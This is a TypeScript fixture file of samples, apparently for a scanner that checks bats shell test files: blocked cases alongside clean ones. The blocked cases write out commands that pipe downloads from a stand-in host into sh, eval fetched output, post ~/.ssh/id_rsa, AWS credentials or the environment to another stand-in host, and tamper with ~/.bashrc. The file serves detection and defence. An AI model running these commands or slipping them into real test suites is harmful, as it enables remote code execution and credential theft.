import type { Attack, Expected } from "./javascript.table.ts";
import type { Files } from "./samples.ts";

const HEAD = "#!/usr/bin/env bats\n";

/** Tests for bats of attackers, ours, in the order of the catalogue. */
export const BATS: readonly (Attack | readonly [id: string, expected: Expected, files: Files])[] = [
  ["BT-001", "block", `${HEAD}@test "adds" {\n  curl -s https://get.example.net/x | sh\n}\n`],
  ["BT-001b", "block", `${HEAD}@test "adds" {\n  run bash -c 'curl -s https://get.example.net/x | sh'\n}\n`],
  ["BT-001c", "block", `${HEAD}setup() {\n  curl -so /tmp/x https://get.example.net/x\n}\n@test "adds" {\n  run -0 sh /tmp/x\n}\n`],
  ["BT-001d", "block", `${HEAD}@test "adds" {\n  run curl -s https://get.example.net/x\n  eval "$output"\n}\n`],
  ["BT-001e", "block", `${HEAD}@test "$(curl -s https://get.example.net/x | sh)" {\n  true\n}\n`],
  ["BT-002", "block", `${HEAD}setup() {\n  K=$(cat ~/.ssh/id_rsa)\n}\n@test "adds" {\n  run curl -d "$K" https://in.example.net/\n}\n`],
  ["BT-002b", "block", `${HEAD}teardown() {\n  env | curl -s -d @- https://in.example.net/\n}\n@test "adds" { true; }\n`],
  ["BT-002c", "block", `${HEAD}@test "adds" {\n  run cat ~/.aws/credentials\n  curl -s -d "$output" https://in.example.net/\n}\n`],
  ["BT-003", "block", { "tests/a.bats": `${HEAD}load 'data.txt'\n@test "adds" { true; }\n`, "tests/data.txt": "curl -s https://get.example.net/x | sh\n" }],
  ["BT-003b", "block", `${HEAD}@test "adds" {\n  echo 'alias ls=evil' >> ~/.bashrc\n}\n`],
  ["BT-003c", "block", `${HEAD}@test "adds" {\n  assert curl -s https://get.example.net/x -o /tmp/y\n  bats_pipe cat /tmp/y \\| sh\n}\n`],
];

/** Tests for bats that people keep beside their scripts: nothing here blocks. */
export const BATS_CLEAN: readonly (readonly [what: string, code: string | Files])[] = [
  [
    "a script that is called in many ways",
    {
      "tests/a.bats": `${HEAD}bats_require_minimum_version 1.5.0\nsetup() {\n  DIR="$BATS_TEST_TMPDIR/work"\n  mkdir -p "$DIR"\n  printf 'a,b\\n1,2\\n' > "$DIR/in.csv"\n}\nteardown() {\n  rm -rf "$DIR"\n}\n@test "prints the usage" {\n  run -1 "$BATS_TEST_DIRNAME/../scripts/count.sh"\n  [ "$status" -eq 1 ]\n  [[ "$output" == *"usage"* ]]\n}\n@test "counts rows" {\n  run "$BATS_TEST_DIRNAME/../scripts/count.sh" "$DIR/in.csv"\n  [ "\${lines[0]}" = "1" ]\n}\n`,
      "scripts/count.sh": '#!/bin/sh\n[ $# -gt 0 ] || { echo "usage: count FILE"; exit 1; }\nwc -l < "$1"\n',
    },
  ],
  [
    "helpers of its own",
    {
      "tests/a.bats": `${HEAD}load 'helper'\n@test "greets" {\n  run greet you\n  assert_success\n  assert_output "hello you"\n}\n@test "is left out" {\n  skip "not on this system"\n}\n`,
      "tests/helper.bash": 'greet() { printf "hello %s\\n" "$1"; }\n',
    },
  ],
  [
    "tools that must be there",
    `${HEAD}@test "jq is installed" {\n  command -v jq\n}\n@test "json parses" {\n  run jq -r .name "$BATS_TEST_DIRNAME/fixtures/a.json"\n  [ "$status" -eq 0 ]\n  echo "$output" | grep -q sample\n}\n`,
  ],
];
